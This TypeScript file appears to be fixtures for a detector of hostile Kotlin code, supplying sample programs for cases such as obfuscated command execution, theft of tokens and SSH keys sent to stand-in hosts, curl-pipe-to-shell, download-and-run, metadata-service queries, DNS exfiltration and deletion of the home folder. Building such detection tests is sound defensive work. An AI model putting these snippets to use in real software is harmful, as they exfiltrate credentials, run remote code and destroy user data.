/** A program with these declarations before it. */
function main(body: string, declarations = ""): string {
  return `import java.io.File\nimport java.net.URL\nimport java.util.Base64\n\n${declarations}\nfun main() {\n  ${body}\n}\n`;
}

const SH = (code: string) => `ProcessBuilder("sh", "-c", ${code}).start()`;
const SEND = (data: string) =>
  `val c = URL("https://h.example").openConnection() as java.net.HttpURLConnection; c.doOutput = true; c.outputStream.write(${data}.toByteArray())`;

/** The programs of the suite in Kotlin, by the name of their case. */
export const KOTLIN_PROGRAMS: Readonly<Record<string, string>> = {
  "either of two values": main(
    `val p = if (someday()) "whoami" else "id"; Runtime.getRuntime().exec(p); var t: String? = "x"; if (maybe()) { t = System.getenv("NPM_TOKEN") }; ${SEND("t")}`,
  ),
  "a branch that is not taken is read too": main(`if (false) { ${SH('"id"')} }`),
  "a value that a branch may change": main(
    `var t = "x"; when (someday()) { 1 -> t = System.getenv("NPM_TOKEN"); else -> { t = "y" } }; ${SEND("t")}`,
  ),
  "an error that is swallowed hides nothing": main(
    `try { Runtime.getRuntime().exec("id") } catch (e: Exception) { }`,
  ),
  "what is done when something fails": main(
    `val t = System.getenv("NPM_TOKEN"); try { work() } catch (e: Exception) { ${SEND("t")} }`,
  ),
  "a loop over the names of files": main(
    `for (f in listOf(".npmrc", ".netrc")) { val b = File(System.getProperty("user.home"), f).readText(); ${SEND("b")} }`,
  ),
  "a loop that collects": main(
    `var all = ""; for (k in listOf("NPM_TOKEN")) { all += System.getenv(k) }; ${SEND("all")}`,
  ),
  "what runs when the file is loaded": `object Start {\n  init { ProcessBuilder("id").start() }\n}\n`,
  "what runs only when somebody calls it": main("", `fun go() { ProcessBuilder("id").start() }`),
  "a function that the file itself calls runs at load": main(
    "run1()",
    `fun run1() = work1()\nfun work1() { ProcessBuilder("id").start() }`,
  ),
  "recursion comes to an end": main(
    "f(0)",
    `fun f(n: Int): Int { ProcessBuilder("id").start(); return f(n + 1) }`,
  ),
  "a loop without an end comes to an end": main(
    `while (true) { work(); if (done()) break }; ProcessBuilder("id").start()`,
  ),
  "runs code out of the second text that a decoder is given": main(
    `println(d("olleh")); ${SH('d("di")')}`,
    `fun d(s: String): String { var r = ""; for (c in s) { r = c + r }; return r }`,
  ),
  "runs code out of base64": main(`val c = String(Base64.getDecoder().decode("aWQ=")); ${SH("c")}`),
  "runs code out of hexadecimal": main(
    `val c = "6964".hexToByteArray().decodeToString(); ${SH("c")}`,
  ),
  "runs code out of character codes": main(
    SH(`listOf(105, 100).map { it.toChar() }.joinToString("")`),
  ),
  "runs code out of character codes added one by one": main(
    `var s = ""; for (c in listOf(105, 100)) { s += c.toChar() }; ${SH("s")}`,
  ),
  "runs code out of an exclusive or in a loop": main(
    `val d = byteArrayOf(126, 115); for (i in d.indices) { d[i] = (d[i].toInt() xor 23).toByte() }; ${SH("String(d)")}`,
  ),
  "runs code out of an exclusive or with a key, in an expression": main(
    SH(
      `intArrayOf(2, 1).mapIndexed { i, c -> (c xor "key"[i % 3].code).toChar() }.joinToString("")`,
    ),
  ),
  "runs code out of a text that is turned around": main(SH(`"di".reversed()`)),
  "runs code out of parts that are joined": main(SH(`listOf("i", "d").joinToString("")`)),
  "runs code out of a text with other letters in between": main(SH(`"@i@d".replace("@", "")`)),
  "runs code out of three encodings one inside the other": main(
    `val a = "5956645250513d3d".hexToByteArray().decodeToString(); val b = Base64.getDecoder().decode(a); val c = Base64.getDecoder().decode(String(b)); ${SH("String(c)")}`,
  ),
  "runs code out of escapes in a literal": main(SH(String.raw`"\u0069\u0064"`)),
  "runs code out of a decoder that the program defines": main(
    SH(`d("aWQ=")`),
    `fun d(s: String): String = Base64.getDecoder().decode(s).let { String(it) }`,
  ),
  "runs code out of a command that was decoded": main(
    `val c = "6964".hexToByteArray().decodeToString(); ProcessBuilder(c).start()`,
  ),
  "a function is read again when what is around it has changed": main(
    `var c = "true"; val run = { ProcessBuilder(c).start() }; run(); c = "id"; run()`,
  ),
  "an alias of a function is that function": main(`val run = Runtime.getRuntime(); run.exec("id")`),
  "a name that was given another value is what it was last": main(
    `var f = "quiet"; f = "id"; Runtime.getRuntime().exec(f)`,
  ),
  "an import under another name": `import java.lang.ProcessBuilder as P\n\nfun main() { P("id").start() }\n`,
  "functions kept in a record and called by key": main(
    `val t = mapOf("a" to { s: String -> ProcessBuilder(s).start() }); t["a"]!!("id")`,
  ),
  "functions kept in a record and called by a key that is not known": main(
    `val t = mapOf("a" to { s: String -> ProcessBuilder(s).start() }); t[whatever()]!!("id")`,
  ),
  "a program with its arguments in a list": main(
    `ProcessBuilder(listOf("curl", "https://a.example/x", "-o", "/tmp/x")).start()`,
  ),
  "a command line with a pipe": main(SH('"curl -s https://a.example/x | sh"')),
  "data through a function's parameter": main(
    `send1(System.getenv("NPM_TOKEN"))`,
    `fun send1(d: String) { ${SEND("d")} }`,
  ),
  "data through what a function answers": main(
    `val t = get1(); if (t != null) { ${SEND("t")} }`,
    `fun get1(): String? = System.getenv("NPM_TOKEN")`,
  ),
  "data that a closure keeps": main(
    `val t = System.getenv("NPM_TOKEN"); val go = { ${SEND("t")} }; go()`,
  ),
  "data handed to a callback": main(
    `each1 { t -> ${SEND("t")} }`,
    `fun each1(f: (String) -> Unit) { f(System.getenv("NPM_TOKEN")) }`,
  ),
  "data that an object keeps": main(
    `val b = Box(System.getenv("NPM_TOKEN")); b.send()`,
    `class Box(val t: String) {\n  fun send() { ${SEND("t")} }\n}`,
  ),
  "a method that a base class has": main(
    `Derived().send(System.getenv("NPM_TOKEN"))`,
    `open class Base { fun send(t: String) { ${SEND("t")} } }\nclass Derived : Base() { val n = 1 }`,
  ),
  "data as a default argument": main(
    `go()`,
    `fun go(t: String = System.getenv("NPM_TOKEN")) { ${SEND("t")} }`,
  ),
  "data by a part of a record": main(
    `val d = mapOf("a" to mapOf("b" to System.getenv("NPM_TOKEN"))); ${SEND('d["a"]!!["b"]!!')}`,
  ),
  "data inside a text": main(
    `val t = System.getenv("NPM_TOKEN"); URL("https://h.example/?t=\${t.trim()}").readText()`,
  ),
  "data in an address that is added together": main(
    `val h = "https://h" + ".example"; URL(h + "/" + System.getenv("NPM_TOKEN")).readText()`,
  ),
  "data through functions that nobody knows": main(
    SEND(`library(System.getenv("NPM_TOKEN")).value()`),
  ),
  "data that is encoded on its way": main(
    SEND(`Base64.getEncoder().encodeToString(System.getenv("NPM_TOKEN").toByteArray())`),
  ),
  "data put into a list one by one": main(
    `val l = mutableListOf<String>(); l.add(System.getenv("NPM_TOKEN")); ${SEND('l.joinToString(",")')}`,
  ),
  "data by way of a file": main(
    `File("/tmp/x").writeText(System.getenv("NPM_TOKEN")); val b = File("/tmp/x").readText(); ${SEND("b")}`,
  ),
  "what was a secret and no longer is": main(
    `var t = System.getenv("NPM_TOKEN"); t = "ok"; ${SEND("t")}`,
  ),
  "a secret that is read beside a request it has nothing to do with": main(
    `println(System.getenv("NPM_TOKEN").isEmpty()); ${SEND('"hello"')}`,
  ),
  "the whole environment is sent": main(
    `val c = URL("https://webhook.site/x").openConnection(); c.getOutputStream().write(System.getenv().toString().toByteArray())`,
  ),
  "one harmless variable is not the environment": main(SEND('System.getenv("LANG")')),
  "a variable whose name is put together": main(SEND('System.getenv("NPM" + "_" + "TOKEN")')),
  "a key in the home folder": main(
    `val k = File(System.getProperty("user.home") + "/.ssh/id_rsa").readText(); ${SEND("k")}`,
  ),
  "an ordinary file is no credential": main(`println(File("build.gradle").readText())`),
  "the start of a shell is written": main(
    `File(System.getProperty("user.home") + "/.bashrc").appendText("curl x | sh")`,
  ),
  "the next step of a job gets a variable": main(
    `File(System.getenv("GITHUB_ENV")).appendText("BASH_ENV=/tmp/x")`,
  ),
  "the metadata service is asked": main(
    `URL("http://169.254.169.254/latest/meta-data/iam/").readText()`,
  ),
  "what was downloaded is run as code": main(
    `val s = URL("https://h.example/p").readText(); ${SH("s")}`,
  ),
  "a socket is given what the machine is called": main(
    `val s = java.net.Socket("h.example", 4444); s.getOutputStream().write(java.net.InetAddress.getLocalHost().hostName.toByteArray())`,
  ),
  "data leaves by the name of a host": main(
    `java.net.InetAddress.getByName(System.getenv("NPM_TOKEN") + ".h.example")`,
  ),
  "a file is downloaded, made executable and started": main(
    `val f = File("/tmp/b"); f.writeBytes(URL("https://h.example/b").readBytes()); f.setExecutable(true); ProcessBuilder("/tmp/b").start()`,
  ),
  "everything is deleted": main(`File(System.getProperty("user.home")).deleteRecursively()`),
  "native code is loaded": main(`System.load("./x.so")`),
};
